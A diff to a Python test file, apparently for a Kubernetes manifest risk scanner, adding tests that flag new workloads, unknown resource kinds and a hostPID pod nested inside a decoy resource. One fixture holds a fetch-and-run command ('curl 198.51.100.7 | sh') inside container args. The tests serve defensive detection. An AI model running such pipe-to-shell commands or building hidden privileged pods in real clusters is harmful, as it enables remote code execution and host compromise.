@@ -160,10 +160,39 @@ def test_pods_are_found_in_any_new_kind(name: str, kind: str):
     assert severity(None, kubernetes_object(kind, api_version, body)) in (CRITICAL, WARNING)
 
 
-def test_new_object_without_dangers_is_a_notice():
-    assert severity(None, deployment()) == NOTICE
-    bare = kubernetes_object("Pod", "v1", {"containers": [{"name": "a", "image": "docker.io/acme/tool:1.0"}]})
-    assert severity(None, bare) == NOTICE
+def test_new_program_is_a_warning_with_its_command():
+    shell = [{"name": "a", "image": "docker.io/acme/tool:1.0", "command": ["sh", "-c"], "args": ["curl 198.51.100.7 | sh"]}]
+    bodies: list[tuple[str, dict[str, Any]]] = [
+        ("Pod", {"containers": shell}),
+        ("CronJob", {"jobTemplate": {"spec": {"template": {"spec": {"containers": shell}}}}}),
+        ("Deployment", {"template": {"spec": {"containers": shell}}}),
+    ]
+    for kind, body in bodies:
+        (found,) = [each for each in findings(None, kubernetes_object(kind, "v1", body)) if each.rule == "created"]
+        assert found.severity.value == WARNING
+        assert "is created, and runs" in plain_text(found.text)
+        assert "docker.io/acme/tool:1.0 sh -c curl 198.51.100.7 | sh" in plain_text(found.text)
+
+
+@pytest.mark.parametrize(
+    ("kind", "expected"),
+    [
+        ("EnvoyFilter", WARNING),
+        ("PersistentVolume", WARNING),
+        ("Application", WARNING),
+        ("List", WARNING),
+        ("ServiceMonitor", NOTICE),
+        ("Lease", NOTICE),
+    ],
+)
+def test_new_object_of_unknown_kind_is_a_warning(kind: str, expected: str):
+    assert severity(None, kubernetes_object(kind, "example.com/v1", {})) == expected
+
+
+def test_pod_behind_a_decoy_is_found():
+    inner = {"spec": {"hostPID": True, "containers": [{"name": "b", "image": "b"}]}}
+    body = {"containers": [{"name": "a", "image": "a"}], "template": inner}
+    assert severity(None, kubernetes_object("Tool", "example.com/v1", body)) == CRITICAL
 
 
 def test_dangers_of_another_workload_kind_are_findings():
